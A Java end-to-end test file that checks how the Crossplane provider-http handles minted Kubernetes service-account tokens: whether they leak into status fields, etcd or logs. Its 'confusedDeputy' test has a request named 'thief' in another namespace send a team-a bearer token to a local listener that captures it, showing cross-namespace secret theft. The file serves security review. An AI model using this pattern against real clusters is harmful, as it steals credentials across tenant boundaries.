package ci.kingdon.moonlander.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import ci.kingdon.moonlander.engine.Conditions;
import ci.kingdon.moonlander.engine.HttpControlPlane;
import ci.kingdon.moonlander.testing.Eventually;
import ci.kingdon.moonlander.testing.Yaml;
import com.sun.net.httpserver.HttpServer;
import io.fabric8.kubernetes.api.model.GenericKubernetesResource;
import io.fabric8.kubernetes.client.KubernetesClient;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

/**
 * Why landings do not have provider-http mint tokens that expire (docs/security.md, "Why tokens are not bound"). These tests tell what the
 * provider does that a landing must not do: the day that one of them fails, bound tokens are worth another look. {@code make e2e} leaves
 * them out, for the provider is not built here.
 */
class BoundTokens {

    private static final String DISPOSABLE = "http.m.crossplane.io/v1alpha2";

    /** The provider looks again after 30 s at a request that is to be sent once. */
    private static final Duration NEXT_LOOK = Duration.ofMinutes(2);

    private static final String WEBHOOK = """
            apiVersion: admissionregistration.k8s.io/v1
            kind: ValidatingWebhookConfiguration
            metadata: {name: away}
            webhooks:
            - name: away.example.org
              clientConfig: {url: "https://127.0.0.78:9/"}
              rules: [{apiGroups: [""], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [secrets]}]
              failurePolicy: Fail
              sideEffects: None
              admissionReviewVersions: [v1]
              timeoutSeconds: 1
            """;

    private static HttpControlPlane engine;
    private static KubernetesClient client;

    @BeforeAll
    static void start() throws Exception {
        engine = HttpControlPlane.start(
                Path.of("target/e2e").toAbsolutePath(),
                Path.of(System.getProperty("provider-http.binary")),
                Path.of(System.getProperty("provider-http.crds")),
                Path.of("src/e2e/provider-http/rights.yaml"));
        client = engine.cluster().client();
        create("""
                apiVersion: http.m.crossplane.io/v1alpha2
                kind: ClusterProviderConfig
                metadata: {name: default}
                spec: {credentials: {source: None}, tls: {caBundle: %s}}
                """.formatted(Base64.getEncoder()
                .encodeToString(engine.cluster().authority().getBytes(StandardCharsets.US_ASCII))));
        Eventually.until("the minter has a token", () -> !token("minter").isEmpty());
    }

    @AfterAll
    static void stop() {
        if (engine != null) {
            engine.close();
        }
    }

    @Test
    @DisplayName("While its Secret can be written, a minted token is nowhere else")
    void masked() throws Exception {
        request("masked");
        awaitAvailable("team-a", "masked");
        Eventually.until("the Secret has a token", () -> !token("masked").isEmpty());
        assertThat(body("team-a", "masked")).contains("{{masked:team-a:token}}");
        assertThat(whereIs(token("masked"))).isEmpty();
    }

    @Test
    @DisplayName(
            "Where its Secret cannot be written for a moment, a minted token stays in the status, and the request is Ready")
    void unmasked() throws Exception {
        create(WEBHOOK);
        try {
            request("unmasked");
            awaitAvailable("team-a", "unmasked");
        } finally {
            client.resource(WEBHOOK).delete();
        }
        String minted = Yaml.one(body("team-a", "unmasked")).at("/status/token").asString();
        assertThat(minted).startsWith("eyJ");
        assertThat(whereIs(minted)).contains("/registry/http.m.crossplane.io/disposablerequests/team-a/unmasked");
    }

    @Test
    @DisplayName("A token whose Secret is deleted is not minted anew")
    void notMintedAnew() throws Exception {
        request("deleted");
        awaitAvailable("team-a", "deleted");
        Eventually.until("the Secret has a token", () -> !token("deleted").isEmpty());
        client.secrets().inNamespace("team-a").withName("deleted").delete();
        Eventually.within(
                NEXT_LOOK,
                Duration.ofSeconds(1),
                () -> "the provider misses the Secret",
                () -> get("team-a", "deleted").toString().contains("cannot patch from referenced secret"));
        assertThat(client.secrets().inNamespace("team-a").withName("deleted").get())
                .isNull();
    }

    @Test
    @DisplayName("Who may create requests in one namespace reads the Secrets of every other one")
    void confusedDeputy() throws Exception {
        CompletableFuture<String> received = new CompletableFuture<>();
        HttpServer theirs = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        theirs.createContext("/", exchange -> {
            received.complete(exchange.getRequestHeaders().getFirst("Authorization"));
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        theirs.start();
        try {
            send("team-b", "thief", "http://127.0.0.1:" + theirs.getAddress().getPort() + "/", "{}", "");
            assertThat(received.get(1, TimeUnit.MINUTES)).isEqualTo("Bearer " + token("minter"));
        } finally {
            theirs.stop(0);
        }
    }

    private static void request(String name) {
        send(
                "team-a",
                name,
                engine.cluster().server() + "/api/v1/namespaces/team-a/serviceaccounts/moonlander/token",
                """
                {"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{"expirationSeconds":3600}}""",
                """
                secretInjectionConfigs:
                    - secretRef: {name: %s, namespace: team-a}
                      keyMappings: [{secretKey: token, responseJQ: .body.status.token}]
                """.formatted(name));
    }

    private static void send(String namespace, String name, String url, String body, String more) {
        create("""
                apiVersion: %s
                kind: DisposableRequest
                metadata: {name: %s, namespace: %s}
                spec:
                  forProvider:
                    url: %s
                    method: POST
                    headers: {Content-Type: [application/json], Authorization: ["Bearer {{ minter:team-a:token }}"]}
                    body: '%s'
                    %s
                """.formatted(DISPOSABLE, name, namespace, url, body, more));
    }

    private static void create(String manifest) {
        client.resource(manifest).create();
    }

    private static GenericKubernetesResource get(String namespace, String name) {
        return client.genericKubernetesResources(DISPOSABLE, "DisposableRequest")
                .inNamespace(namespace)
                .withName(name)
                .get();
    }

    private static String body(String namespace, String name) {
        Object body = get(namespace, name).get("status", "response", "body");
        return body == null ? "" : body.toString();
    }

    private static void awaitAvailable(String namespace, String name) throws Exception {
        Eventually.until(
                name + " is Ready",
                () -> Conditions.of(get(namespace, name), "Ready").startsWith("True "));
    }

    private static String token(String secret) {
        var found = client.secrets().inNamespace("team-a").withName(secret).get();
        if (found == null || found.getData() == null || !found.getData().containsKey("token")) {
            return "";
        }
        return new String(Base64.getDecoder().decode(found.getData().get("token")), StandardCharsets.US_ASCII);
    }

    /** The keys of etcd outside Secrets, and the logs, that a token was ever written to. */
    private static Set<String> whereIs(String token) throws IOException {
        Needles needles = new Needles();
        needles.addToken(token);
        Set<String> found = new TreeSet<>();
        Haystack.of(engine.recorder())
                .forEach(write -> !write.isSecret() && needles.isIn(write.value()), write -> found.add(write.key()));
        for (Path log : engine.logs()) {
            if (needles.isIn(Files.readAllBytes(log))) {
                found.add(log.toString());
            }
        }
        return found;
    }
}
